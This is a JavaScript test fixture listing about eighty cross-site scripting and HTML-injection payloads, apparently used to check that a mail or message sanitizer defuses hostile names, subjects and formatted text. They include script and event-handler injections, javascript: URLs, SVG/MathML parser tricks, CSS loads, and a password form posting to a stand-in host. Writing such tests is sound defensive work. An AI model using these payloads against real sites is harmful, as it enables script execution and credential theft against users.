// What hostile customers write into names, subjects, texts and formatted mail. Each one would set window.canary, or load
// something from elsewhere, where it is not defused.
const evil = 'window.top.canary=1;window.canary=1';
const away = 'http://elsewhere.test/beacon';

export const hostile = [
  `<script>${evil}</script>`, `<ScRiPt>${evil}</sCrIpT>`, `<script src="${away}.js"></script>`, `<script\n>${evil}</script\n>`,
  `<img src=x onerror="${evil}">`, `<img/src=x/onerror=${evil}>`, `<img src=x oneRRor\n=\n"${evil}">`, `<IMG SRC="javascript:${evil}">`,
  `<img src="${away}.png">`, `<img srcset="${away}.png 1x">`, `<picture><source srcset="${away}.webp"><img src=x></picture>`,
  `<svg onload="${evil}">`, `<svg><script>${evil}</script></svg>`, `<svg><animate onbegin="${evil}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${evil}"></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload='${evil}'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${evil}</script>"></iframe></foreignObject></svg>`, `<svg><style><img src=x onerror="${evil}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${evil}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${evil}">x</math>`, `<math><annotation-xml encoding="text/html"><script>${evil}</script></annotation-xml></math>`,
  `<iframe src="javascript:${evil}"></iframe>`, `<iframe srcdoc="<script>${evil}</script>"></iframe>`, `<iframe src="${away}"></iframe>`,
  `<object data="javascript:${evil}"></object>`, `<object data="${away}"></object>`, `<embed src="javascript:${evil}">`, `<applet code="x"></applet>`,
  `<a href="javascript:${evil}" autofocus onfocus="${evil}" tabindex=0>click</a>`, `<a href="java\tscript:${evil}">click</a>`,
  `<a href="&#106;avascript:${evil}">click</a>`, `<a href="data:text/html,<script>${evil}</script>">click</a>`, `<a href="vbscript:x">click</a>`,
  `<a href="//elsewhere.test" target="_top" ping="${away}">click</a>`, `<form action="javascript:${evil}"><button>go</button></form>`,
  `<form action="${away}"><input name=password></form>`, `<button formaction="javascript:${evil}">go</button>`, `<input autofocus onfocus="${evil}">`,
  `<select autofocus onfocus="${evil}"></select>`, `<textarea autofocus onfocus="${evil}"></textarea>`, `<keygen autofocus onfocus="${evil}">`,
  `<details open ontoggle="${evil}"><summary>x</summary></details>`, `<marquee onstart="${evil}">x</marquee>`, `<video src=x onerror="${evil}"></video>`,
  `<video poster="${away}.png"></video>`, `<audio src="${away}.mp3" autoplay onerror="${evil}"></audio>`, `<body onload="${evil}">`, `<body background="${away}.png">`,
  `<table background="${away}.png"><tr><td background="${away}.png">x</td></tr></table>`, `<style>@import "${away}.css";</style>`,
  `<style>body{background:url(${away}.png)}</style>`, `<div style="background:url(${away}.png)">x</div>`, `<div style="background-image:u\\72l(${away}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">over everything</div>`, `<div style="width:expression(${evil})">x</div>`,
  `<link rel=stylesheet href="${away}.css">`, `<link rel=prefetch href="${away}">`, `<meta http-equiv=refresh content="0;url=${away}">`, `<base href="${away}/">`,
  `<template><script>${evil}</script></template>`, `<noscript><p title="</noscript><img src=x onerror='${evil}'>">`, `<xmp><p title="</xmp><img src=x onerror='${evil}'>">`,
  `<!--><img src=x onerror="${evil}">-->`, `<![CDATA[><img src=x onerror="${evil}">]]>`, `<p title="</p><img src=x onerror='${evil}'>">`,
  `"><img src=x onerror="${evil}">`, `'><script>${evil}</script>`, `</bdi></li></ol><script>${evil}</script>`, `</textarea><script>${evil}</script>`,
  `</title><script>${evil}</script>`, `\u202e<script>${evil}</script>`, `{{constructor.constructor('${evil}')()}}`, `\${${evil}}`, `javascript:${evil}//`,
  `<form id=x><input name=attributes><input name=nodeName></form>`, `<img name=body><img id=getElementById>`, `<a id=documentElement name=cookie>x</a>`,
  `<img src="cid:none" onerror="${evil}">`, `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${evil}'/>">`, `<dialog open onclose="${evil}"><form method=dialog><button autofocus>x</button></form></dialog>`,
];
